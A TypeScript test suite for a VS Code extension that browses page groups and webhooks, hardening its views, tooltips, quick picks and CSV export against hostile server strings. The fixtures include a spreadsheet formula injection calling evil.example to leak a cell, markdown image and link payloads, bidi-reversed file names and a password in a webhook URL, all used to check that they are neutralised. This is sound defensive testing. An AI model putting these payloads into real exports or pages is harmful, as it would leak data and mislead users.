// Hardening in the real extension host: hostile server strings through every view and document, the tree events and
// row ids, a key change that reloads once, a timeout change that keeps what is loaded, a refresh that keeps the rows
// until the new page lands (and under the error when it fails), and no Load All on groups fed by the unfiltered list.
import * as assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { ExportResult } from '../../../src/commands/exportCommand';
import type { PageGatewayTestApi } from '../../../src/extension';
import type { PageGroupsNode } from '../../../src/features/pageGroups/view/pageGroupsProvider';
import { NO_STATUS } from '../../../src/features/pageGroups/model/pageGroupsModel';
import { generateDataset, type Dataset } from '../../gateway/dataset';
import type { SampleGateway } from '../../gateway/server';
import { configure, connectedSuite, onlyGateway, pageGroupRows, type Row, sleep, statusRow, waitFor, webhookRows } from '../support';

const LONG = 'L'.repeat(10_000);
const base = generateDataset({ pageGroupCount: 30, withoutStatusCount: 2 });
const hostile: Record<string, unknown>[] = [
  { pageGroupId: 'pg_lone_\ud800_id', status: 'published', title: 'lone surrogate in the id' },
  { pageGroupId: 'pg_bidi', status: 'published', title: 'invoice \u202Egnp.exe', name: 'bell\u0007 and escape \u001b[31m red' },
  { pageGroupId: 'pg_long', status: 'published', title: LONG },
  { pageGroupId: 'pg_surrogate_status', status: '\udc00', title: 'status is a lone surrogate' },
  { pageGroupId: 'pg_empty_status', status: '', title: 'status is the empty string' },
  { pageGroupId: 'pg_$(zap)_id', status: 'draft', title: 'an id with icon syntax' },
  { pageGroupId: 'pg_nested', status: 'draft', title: 'deep', actions: JSON.parse(`${'['.repeat(100_000)}1${']'.repeat(100_000)}`) as unknown },
  {
    pageGroupId: 'pg_icon',
    status: 'draft',
    title: '$(pass-filled) Verified \u202Egnp.exe',
    name: '=HYPERLINK("https://evil.example/?"&C2,"open")',
    tenantId: '[open](https://evil.example/) ![x](https://evil.example/p.png) <img src=x>',
    brandId: '$(verified-filled)',
  },
];
const PASSWORD = 'hunter2-s3cret';
/** Icons that only server text in this suite names: none may be drawn. */
const DATA_ICONS = ['pass-filled', 'verified-filled'];
const dataset: Dataset = {
  pageGroups: [...hostile, ...base.pageGroups],
  webhooks: [
    ...base.webhooks,
    { id: 'wh_\ud800', url: 'https://hooks.example/\u202Ereversed', events: ['form.submitted', 'x\u0000y'], active: true, createdAt: '2026-01-01T00:00Z', updatedAt: '2026-01-01T00:00Z' },
    { id: 'wh_pw', url: `https://bob:${PASSWORD}@hooks.example/in`, events: ['form.submitted'], active: true, createdAt: '2026-01-01T00:00Z', updatedAt: '2026-01-01T00:00Z' },
    { url: `https://bob:${PASSWORD}@noid.example/in`, events: ['form.submitted'], active: true, createdAt: '2026-01-01T00:00Z', updatedAt: '2026-01-01T00:00Z' },
  ],
};

/** The editor's icon syntax; group 1 is the escaping backslash. Markdown's own escapes are removed first for tooltips. */
const EDITOR_ICON = /(\\)?\$\(([A-Za-z0-9-]+(?:~[A-Za-z]+)?)\)/g;
const unescapeMarkdown = (text: string): string => text.replace(/\\([!-/:-@[-`{-~])/g, '$1');
const drawnIcons = (text: string): string[] => [...text.matchAll(EDITOR_ICON)].filter((m) => m[1] === undefined).map((m) => m[2] as string);

// eslint-disable-next-line no-control-regex
const UNSAFE = /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

describe('Hardening: hostile strings, events, races', function () {
  this.timeout(60_000);
  let api: PageGatewayTestApi;
  let gateway: SampleGateway;

  connectedSuite({ dataset }, (a, g) => {
    api = a;
    gateway = g;
  });

  beforeEach(async () => {
    gateway.clearFaults();
    await configure(api, { pageSize: 100, requestTimeoutSeconds: undefined });
    api.pageGroups.model(onlyGateway(api)).resetAll();
    gateway.resetRequests();
  });

  afterEach(async () => {
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
  });

  /** Every row of the Page Groups tree, groups expanded, as the user would see them. */
  async function wholeTree(): Promise<Row<PageGroupsNode>[]> {
    const all: Row<PageGroupsNode>[] = [];
    for (const row of await pageGroupRows(api)) {
      all.push(row);
      if (row.node.kind === 'status') {
        all.push(...(await pageGroupRows(api, row.node)));
      }
    }
    return all;
  }

  it('an id with icon syntax is copied as it is and said as text in the status bar (Copy Link)', async () => {
    const row = (await wholeTree()).find((r) => r.node.kind === 'pageGroup' && r.node.item.value.pageGroupId === 'pg_$(zap)_id');
    assert.ok(row, 'its row');
    const messages: string[] = [];
    const original = vscode.window.setStatusBarMessage;
    (vscode.window as { setStatusBarMessage: unknown }).setStatusBarMessage = (text: string): vscode.Disposable => {
      messages.push(text);
      return new vscode.Disposable(() => undefined);
    };
    try {
      await vscode.commands.executeCommand('pageGateway.copyLink', row.node);
    } finally {
      (vscode.window as { setStatusBarMessage: unknown }).setStatusBarMessage = original;
    }
    assert.ok(decodeURIComponent(await vscode.env.clipboard.readText()).includes('id=pg_$(zap)_id'), 'the link carries the id as it is');
    assert.equal(messages.length, 1);
    // `\$(zap)` is the status bar's escape: it shows the text "$(zap)" instead of drawing the icon.
    assert.ok(messages[0]?.includes('\\$(zap)') && !/(^|[^\\])\$\(zap\)/.test(messages[0]), `said as text, never drawn as an icon: ${messages[0] ?? ''}`);
  });

  it('hostile strings never break a view or a document: escaped, cut with the full value in the tooltip, "" apart from no status', async () => {
    const rows = await wholeTree();
    const ids = rows.map((r) => r.id);
    assert.equal(new Set(ids).size, ids.length, 'every row id is unique');
    for (const row of rows) {
      assert.doesNotMatch(row.label, UNSAFE, `label of ${row.id} shows no raw control, bidi or lone surrogate`);
      assert.doesNotMatch(row.description, UNSAFE);
      assert.ok(row.label.length <= 121, `label of ${row.id} is cut (${row.label.length})`);
    }
    const labels = rows.map((r) => r.label);
    assert.ok(labels.includes('(empty status "")'), labels.join(', '));
    assert.ok(labels.includes('(no status)'));
    assert.ok(labels.includes('\\uDC00'), 'the lone-surrogate status is shown escaped');
    assert.ok(labels.includes('invoice \\u202Egnp.exe'));
    const long = rows.find((r) => r.node.kind === 'pageGroup' && r.node.item.value.pageGroupId === 'pg_long');
    assert.ok(long && long.label.endsWith('…'));
    assert.ok(long.tooltip.includes(LONG), 'the full value is in the tooltip');
    const emptyGroup = rows.find((r) => r.label === '(empty status "")');
    assert.ok(emptyGroup);
    assert.deepEqual((await pageGroupRows(api, emptyGroup.node)).map((r) => r.label), ['status is the empty string']);
    // Every item and group opens as JSON; a value nested too deeply to print says so.
    for (const row of rows.filter((r) => r.node.kind === 'pageGroup' || r.node.kind === 'status')) {
      await vscode.commands.executeCommand('pageGateway.openJson', row.node);
      const text = vscode.window.activeTextEditor?.document.getText() ?? '';
      assert.doesNotThrow(() => JSON.parse(text), `the document of ${row.id} is JSON`);
    }
    const hooks = await webhookRows(api);
    const ids2 = hooks.map((r) => r.id);
    assert.equal(new Set(ids2).size, ids2.length);
    for (const row of hooks) {
      assert.doesNotMatch(row.label, UNSAFE);
      if (row.node.kind === 'webhook') {
        for (const child of await webhookRows(api, row.node)) {
          assert.doesNotMatch(child.label, UNSAFE);
        }
        await vscode.commands.executeCommand('pageGateway.openJson', row.node);
      }
    }
  });

  it(`a value nested 100,000 deep, in two loads in a row, then refreshes: the status keeps its rows, marks computed`, async () => {
    const draft = await statusRow(api, 'draft');
    const ids = async (): Promise<unknown[]> => (await pageGroupRows(api, draft.node)).map((r) => (r.node.kind === 'pageGroup' ? r.node.item.value.pageGroupId : r.contextValue));
    assert.ok((await ids()).includes('pg_nested'));
    for (let refresh = 0; refresh < 2; refresh++) {
      await vscode.commands.executeCommand('pageGateway.refresh', draft.node);
      // The tree asks for the rows again: the new page lands, and its change marks are computed against the old one.
      const after = await ids();
      assert.ok(!(await statusRow(api, 'draft')).description.includes('refreshing'));
      assert.ok(after.includes('pg_nested') && after.includes('pg_icon'), `refresh ${refresh + 1}: ${after.join(', ')}`);
      assert.ok(!after.some((id) => String(id).startsWith('pageGateway.error')), 'no error row');
    }
  });

  it('tooltips: no icon, link or image from server text, no password of a webhook URL', async () => {
    const rows = [...(await wholeTree())];
    for (const row of await webhookRows(api)) {
      rows.push(row as unknown as Row<PageGroupsNode>);
      if (row.node.kind === 'webhook') {
        rows.push(...((await webhookRows(api, row.node)) as unknown as Row<PageGroupsNode>[]));
      }
    }
    const icon = rows.find((r) => r.node.kind === 'pageGroup' && r.node.item.value.pageGroupId === 'pg_icon');
    assert.ok(icon, 'the page group with icons in its title is shown');
    for (const row of rows) {
      const rendered = unescapeMarkdown(row.tooltip);
      assert.deepEqual(drawnIcons(rendered).filter((name) => DATA_ICONS.includes(name)), [], `tooltip of ${row.id}`);
      assert.doesNotMatch(row.tooltip, /(^|[^\\])\]\(|(^|[^\\])!\[|(^|[^\\])<img|(^|[^\\])https:\/\//, `no link, image or HTML in the tooltip of ${row.id}`);
      assert.ok(!row.tooltip.includes(PASSWORD) && !row.label.includes(PASSWORD) && !row.description.includes(PASSWORD), `no password in ${row.id}`);
    }
    assert.match(unescapeMarkdown(icon.tooltip), /\\\$\(pass-filled\) Verified/, 'shown as the text $(pass-filled)');
  });

  it('quick picks, status bar messages and progress titles: server text draws no icon, shows no raw bidi, no password', async () => {
    await wholeTree();
    await webhookRows(api);
    const shown: string[] = [];
    const window = vscode.window as unknown as Record<string, unknown>;
    const saved = { showQuickPick: window.showQuickPick, setStatusBarMessage: window.setStatusBarMessage, withProgress: window.withProgress, createInputBox: window.createInputBox };
    let choose: (items: readonly vscode.QuickPickItem[]) => vscode.QuickPickItem | undefined = () => undefined;
    window.showQuickPick = async (items: readonly vscode.QuickPickItem[] | Thenable<readonly vscode.QuickPickItem[]>, options?: vscode.QuickPickOptions): Promise<unknown> => {
      const list = await items;
      shown.push(options?.title ?? '', ...list.flatMap((i) => [i.label, i.description ?? '', i.detail ?? '']));
      return choose(list);
    };
    window.setStatusBarMessage = (text: string, ...rest: unknown[]): vscode.Disposable => {
      shown.push(text);
      return (saved.setStatusBarMessage as (...args: unknown[]) => vscode.Disposable)(text, ...rest);
    };
    window.withProgress = (options: vscode.ProgressOptions, task: unknown): unknown => {
      shown.push(options.title ?? '');
      return (saved.withProgress as (...args: unknown[]) => unknown)(options, task);
    };
    window.createInputBox = (): vscode.InputBox => typedInput('$(pass-filled)\u202E_not_there', shown);
    const byValue = (id: string) => (items: readonly vscode.QuickPickItem[]): vscode.QuickPickItem | undefined =>
      items.find((i) => (i as { ref?: { item: { value: { pageGroupId?: string; id?: string } } } }).ref?.item.value[id.startsWith('pg_') ? 'pageGroupId' : 'id'] === id);
    try {
      choose = byValue('pg_icon');
      await vscode.commands.executeCommand('pageGateway.copyId');
      choose = byValue('wh_pw');
      await vscode.commands.executeCommand('pageGateway.copyWebhookUrl');
      assert.equal(await vscode.env.clipboard.readText(), `https://bob:${PASSWORD}@hooks.example/in`, 'the clipboard gets the URL as sent');
      choose = () => undefined;
      await vscode.commands.executeCommand('pageGateway.openJson');
      await vscode.commands.executeCommand('pageGateway.selectForCompare');
      await vscode.commands.executeCommand('pageGateway.goToId');
    } finally {
      Object.assign(window, saved);
    }
    assert.ok(shown.some((text) => text.includes('pass-filled')), `the hostile title was shown: ${shown.length} texts`);
    assert.ok(shown.some((text) => text.includes('bob:***@hooks.example')), 'the webhook URL is shown, masked');
    assert.ok(shown.some((text) => text.includes('_not_there')), 'Go to ID says, in its input, what it did not find');
    for (const text of shown) {
      assert.deepEqual(drawnIcons(text).filter((name) => DATA_ICONS.includes(name)), [], JSON.stringify(text));
      assert.doesNotMatch(text, UNSAFE, JSON.stringify(text));
      assert.ok(!text.includes(PASSWORD), JSON.stringify(text));
    }
  });

  it('CSV export: a formula sent by the server is written as text (leading \'), read back with csv-parse', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pge-hostile-'));
    try {
      const draft = await statusRow(api, 'draft');
      await pageGroupRows(api, draft.node);
      const target = path.join(dir, 'draft.csv');
      const result = await vscode.commands.executeCommand<ExportResult | undefined>('pageGateway.export', draft.node, { target, scope: 'loaded', format: 'csv' });
      assert.equal(result?.outcome, 'complete');
      assert.ok((result?.neutralized ?? 0) >= 1);
      const rows = parse(fs.readFileSync(target, 'utf8')) as string[][];
      const header = rows[0] ?? [];
      const row = rows.find((r) => r[header.indexOf('pageGroupId')] === 'pg_icon');
      assert.equal(row?.[header.indexOf('name')], '\'=HYPERLINK("https://evil.example/?"&C2,"open")');
      if (process.platform !== 'win32') {
        assert.equal(fs.statSync(target).mode & 0o777, 0o600, 'readable by its owner only');
      }
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it('loading a status fires a change for that status row only, not for the whole tree', async () => {
    await pageGroupRows(api);
    const published = await statusRow(api, 'published');
    await sleep(150); // the changes of the reset before this test reach the tree first
    const fired: Array<PageGroupsNode | undefined> = [];
    const subscription = api.pageGroups.onDidChangeTreeData((node) => fired.push(node as PageGroupsNode | undefined));
    try {
      await pageGroupRows(api, published.node);
      // A change that follows another within 100 ms reaches the tree at the end of that interval (ChangeThrottle).
      await waitFor(() => fired.length > 0, 'a tree change after loading the status');
      await sleep(150);
    } finally {
      subscription.dispose();
    }
    assert.ok(fired.every((node) => node === published.node), `fired: ${fired.map((n) => (n === undefined ? 'root' : n.id)).join(', ')}`);
  });

  it('Load All tells the tree about its group at most every 100 ms, and last about the whole group', async () => {
    const bulk: Dataset = { webhooks: dataset.webhooks, pageGroups: generateDataset({ pageGroupCount: 1_000, statusWeights: { bulk: 1 }, withoutStatusCount: 0 }).pageGroups };
    gateway.setDataset(bulk);
    try {
      api.pageGroups.reload(onlyGateway(api));
      const group = await statusRow(api, 'bulk');
      const model = api.pageGroups.model(onlyGateway(api));
      await sleep(150); // the reload's own changes reach the tree first
      const seen: number[] = [];
      const others: unknown[] = [];
      const subscription = api.pageGroups.onDidChangeTreeData((node) => {
        if (node === group.node) {
          seen.push(model.itemsOf('bulk').length);
        } else {
          others.push(node);
        }
      });
      try {
        const started = performance.now();
        await vscode.commands.executeCommand('pageGateway.loadAll', group.node);
        const elapsedMs = performance.now() - started;
        await sleep(250);
        assert.equal(model.itemsOf('bulk').length, 1_000);
        assert.equal(gateway.requests.filter((r) => r.query.status === 'bulk').length, 10);
        // Two changes a page (started, landed): 20 events without the throttle.
        assert.ok(seen.length <= Math.ceil(elapsedMs / 100) + 2, `${seen.length} events in ${elapsedMs.toFixed(0)} ms`);
        assert.equal(seen.at(-1), 1_000, `the last event came with every page group loaded (events saw ${seen.join(', ')})`);
        assert.equal(others.length, 0, 'only the loading group changed');
      } finally {
        subscription.dispose();
      }
    } finally {
      gateway.setDataset(dataset);
      api.pageGroups.reload(onlyGateway(api));
    }
  });

  it('a key change reloads once: the command and the secret storage echo are one change', async () => {
    const only = onlyGateway(api);
    let reloads = 0;
    const subscription = only.connection.onDidChange(() => (reloads += 1));
    try {
      await api.keys.store(only.connection.scope, 'another-key-1');
      await only.connection.keyChanged(); // what Set API Key does; the echo from the secret storage follows
      await sleep(300);
      await only.connection.keyChanged();
      assert.equal(reloads, 1);
    } finally {
      subscription.dispose();
      await api.keys.store(only.connection.scope, gateway.apiKey);
      await only.connection.keyChanged();
    }
  });

  it('changing the request timeout keeps everything loaded and sends nothing', async () => {
    const published = await statusRow(api, 'published');
    await pageGroupRows(api, published.node);
    const loaded = api.pageGroups.model(onlyGateway(api)).itemsOf('published').length;
    const requests = gateway.requests.length;
    await configure(api, { requestTimeoutSeconds: 12 });
    await sleep(200);
    assert.equal(api.pageGroups.model(onlyGateway(api)).itemsOf('published').length, loaded);
    assert.equal(gateway.requests.length, requests);
    assert.ok((await pageGroupRows(api, published.node)).length >= loaded);
    assert.equal(gateway.requests.length, requests, 'showing the group again needs no request');
  });

  it('a refresh keeps the rows (marked refreshing) until the new page lands; when it fails they stay, under the error', async () => {
    const published = await statusRow(api, 'published');
    const before = (await pageGroupRows(api, published.node)).filter((r) => r.node.kind === 'pageGroup').map((r) => r.label);
    gateway.addFault({ kind: 'delay', ms: 600, path: 'page_groups', status: 'published', times: 1 });
    await vscode.commands.executeCommand('pageGateway.refresh', published.node);
    const model = api.pageGroups.model(onlyGateway(api));
    assert.deepEqual(model.itemsOf('published').length, before.length, 'the rows are still there');
    const loading = pageGroupRows(api, published.node);
    await waitFor(async () => (await statusRow(api, 'published')).description.includes('refreshing'), 'the status to say refreshing');
    await loading;
    assert.ok(!(await statusRow(api, 'published')).description.includes('refreshing'));
    gateway.addFault({ kind: 'status', status: 500, path: 'page_groups', statusFilter: 'published' });
    await vscode.commands.executeCommand('pageGateway.refresh', published.node);
    const after = await pageGroupRows(api, published.node);
    assert.match(after[0]?.label ?? '', /^Couldn't refresh — showing the last list loaded — retry$/, 'the error comes first');
    assert.deepEqual(after.slice(1).filter((r) => r.node.kind === 'pageGroup').map((r) => r.label), before, 'the rows from before stay');
  });

  it('refreshing the whole view keeps the rows of expanded statuses only; collapsed ones start over (nothing stale stays loaded)', async () => {
    const published = await statusRow(api, 'published');
    const draft = await statusRow(api, 'draft');
    await pageGroupRows(api, published.node);
    await pageGroupRows(api, draft.node);
    api.pageGroups.noteExpansion(published.node, true);
    api.pageGroups.noteExpansion(draft.node, true);
    api.pageGroups.noteExpansion(draft.node, false);
    const model = api.pageGroups.model(onlyGateway(api));
    await vscode.commands.executeCommand('pageGateway.refresh', api.pageGroups.gatewayNode(onlyGateway(api)));
    assert.ok(model.chain('published').refreshing, 'the expanded status keeps its rows while it reloads');
    assert.ok(model.itemsOf('published').length > 0);
    assert.ok(!model.chain('draft').refreshing);
    assert.equal(model.itemsOf('draft').length, 0, 'the collapsed status starts over');
  });

  it('no Load All on "(no status)": it is fed by the unfiltered list', async () => {
    await pageGroupRows(api);
    const none = await statusRow(api, '(no status)');
    assert.equal(none.name, 'pageGateway.status.derived');
    assert.doesNotMatch(none.contextValue, /\+loadAll\b/, 'no Load All in its menus');
    const shown: string[] = [];
    const original = vscode.window.showInformationMessage;
    (vscode.window as { showInformationMessage: unknown }).showInformationMessage = (message: string): Thenable<undefined> => {
      shown.push(message);
      return Promise.resolve(undefined);
    };
    const requests = gateway.requests.length;
    try {
      await vscode.commands.executeCommand('pageGateway.loadAll', api.pageGroups.statusNode(onlyGateway(api), NO_STATUS));
    } finally {
      (vscode.window as { showInformationMessage: unknown }).showInformationMessage = original;
    }
    assert.equal(gateway.requests.length, requests, 'nothing was walked');
    assert.match(shown.join('\n'), /Search…/);
  });
});

describe('Hardening: a gateway that never ends, with pageGateway.maxLoadedPageGroups at 1,000', function () {
  this.timeout(60_000);
  const LIMIT_ROW = 'Stopped at 1,000 page groups loaded — raise pageGateway.maxLoadedPageGroups';
  const LIMIT_MESSAGE = 'Stopped at 1,000 page groups loaded (pageGateway.maxLoadedPageGroups). Filter by status, or raise the limit.';
  let api: PageGatewayTestApi;
  let gateway: SampleGateway;
  const shown: string[] = [];
  const original = { info: vscode.window.showInformationMessage, warning: vscode.window.showWarningMessage };

  connectedSuite({ dataset: base }, (a, g) => {
    api = a;
    gateway = g;
  });

  before(() => {
    const record = (message: string): Thenable<undefined> => {
      shown.push(message);
      return Promise.resolve(undefined);
    };
    (vscode.window as { showInformationMessage: unknown }).showInformationMessage = record;
    (vscode.window as { showWarningMessage: unknown }).showWarningMessage = record;
  });

  after(() => {
    (vscode.window as { showInformationMessage: unknown }).showInformationMessage = original.info;
    (vscode.window as { showWarningMessage: unknown }).showWarningMessage = original.warning;
  });

  beforeEach(async () => {
    gateway.clearFaults();
    await configure(api, { pageSize: 100, maxLoadedPageGroups: 1000 });
    api.pageGroups.model(onlyGateway(api)).resetAll();
    gateway.resetRequests();
    shown.length = 0;
  });

  afterEach(async () => {
    await vscode.commands.executeCommand('workbench.action.closeQuickOpen');
    await configure(api, { maxLoadedPageGroups: undefined });
  });

  const pageGroupRequests = (): number => gateway.countRequests({ path: 'page_groups' });

  it('Load All stops at the limit: a row and a message name the setting, what is loaded stays, Load more sends nothing', async () => {
    gateway.addFault({ kind: 'endless', path: 'page_groups' });
    const published = await statusRow(api, 'published');
    await pageGroupRows(api, published.node);
    await vscode.commands.executeCommand('pageGateway.loadAll', published.node);
    // 100 page groups of the unfiltered list, then 9 pages of 100 of "published": 1,000.
    assert.equal(pageGroupRequests(), 10);
    assert.equal(api.pageGroups.model(onlyGateway(api)).loadedCount(), 1000);
    assert.ok(shown.includes(LIMIT_MESSAGE), shown.join('\n'));
    const rows = await pageGroupRows(api, published.node);
    assert.equal(rows.length, 901, 'the 900 page groups loaded, then the row that says why loading stopped');
    assert.equal(rows.at(-1)?.label, LIMIT_ROW);
    assert.match(rows.at(-1)?.tooltip ?? '', /Filter by status, or raise the limit\./);
    assert.equal((await pageGroupRows(api)).at(-1)?.label, LIMIT_ROW, 'where "Find more statuses…" was');
    await api.pageGroups.loadMore({ gateway: onlyGateway(api), key: 'published' });
    await api.pageGroups.loadMore({ gateway: onlyGateway(api), key: 'draft' });
    await vscode.commands.executeCommand('pageGateway.loadAll', published.node);
    assert.equal(pageGroupRequests(), 10, 'nothing more is sent');
  });

  it("Export of everything, Search's scan and Go to ID's scan stop at the limit and send nothing more", async () => {
    gateway.addFault({ kind: 'endless', path: 'page_groups' });
    const target = path.join(os.tmpdir(), `pge-cap-${process.pid}.json`);
    try {
      const row = await statusRow(api, 'published');
      const result = await vscode.commands.executeCommand<ExportResult | undefined>('pageGateway.export', row.node, { target, scope: 'everything' });
      assert.equal(result?.outcome, 'stopped');
      assert.equal(result?.written, 900, 'what was loaded is written (100 more are in the unfiltered list)');
      assert.ok(shown.some((m) => m.includes(LIMIT_MESSAGE)), shown.join('\n'));
    } finally {
      fs.rmSync(target, { force: true });
    }
    assert.equal(pageGroupRequests(), 10);

    const discovery = api.pageGroups.model(onlyGateway(api)).discovery;
    void vscode.commands.executeCommand('pageGateway.search');
    await waitFor(() => discovery.capped, 'the scan to stop at the limit');
    await sleep(300);
    await vscode.commands.executeCommand('workbench.action.closeQuickOpen');
    await vscode.commands.executeCommand('pageGateway.goToId', 'pg_nope_0000');
    assert.ok(shown.some((m) => m.includes('“pg_nope_0000”') && m.includes('(pageGateway.maxLoadedPageGroups)')), shown.join('\n'));
    assert.equal(pageGroupRequests(), 10, 'nothing more is sent');
    assert.equal(discovery.items.length, 100);
  });

  it('page groups without ids and a new status on each: the scan stops at the limit; 500 status rows, then one row for the rest', async () => {
    gateway.addFault({ kind: 'endless', path: 'page_groups', noIds: true, newStatuses: true });
    const discovery = api.pageGroups.model(onlyGateway(api)).discovery;
    void vscode.commands.executeCommand('pageGateway.search');
    await waitFor(() => discovery.items.length >= 1000 && !discovery.loading, 'the scan to reach the limit');
    await sleep(300);
    await vscode.commands.executeCommand('workbench.action.closeQuickOpen');
    assert.equal(pageGroupRequests(), 10);
    const rows = await pageGroupRows(api);
    assert.equal(rows.filter((r) => r.contextValue.startsWith('pageGateway.status')).length, 500);
    assert.deepEqual(
      rows.slice(500).map((r) => r.label),
      ['500 more statuses — Filter by Status…', LIMIT_ROW],
    );
    assert.equal(rows[500]?.item.command?.command, 'pageGateway.filterByStatus');
  });
});

/**
 * Go to ID's input as the user would use it: once shown it is given `value` and accepted. It records its title, prompt
 * and validation message in `shown`, and closes once the look-up has answered with a message (or found something).
 */
function typedInput(value: string, shown: string[]): vscode.InputBox {
  const accepted = new vscode.EventEmitter<void>();
  const hidden = new vscode.EventEmitter<void>();
  const changed = new vscode.EventEmitter<string>();
  let validation: string | vscode.InputBoxValidationMessage | undefined;
  const box = {
    value: '',
    title: undefined as string | undefined,
    prompt: undefined as string | undefined,
    placeholder: undefined as string | undefined,
    busy: false,
    ignoreFocusOut: false,
    get validationMessage(): string | vscode.InputBoxValidationMessage | undefined {
      return validation;
    },
    set validationMessage(message: string | vscode.InputBoxValidationMessage | undefined) {
      validation = message;
      if (message !== undefined) {
        shown.push(typeof message === 'string' ? message : message.message);
        hidden.fire();
      }
    },
    onDidAccept: accepted.event,
    onDidHide: hidden.event,
    onDidChangeValue: changed.event,
    show(): void {
      shown.push(box.title ?? '', box.prompt ?? '');
      box.value = value;
      setTimeout(() => accepted.fire(), 0);
    },
    hide(): void {
      hidden.fire();
    },
    dispose(): void {
      accepted.dispose();
      changed.dispose();
    },
  };
  return box as unknown as vscode.InputBox;
}
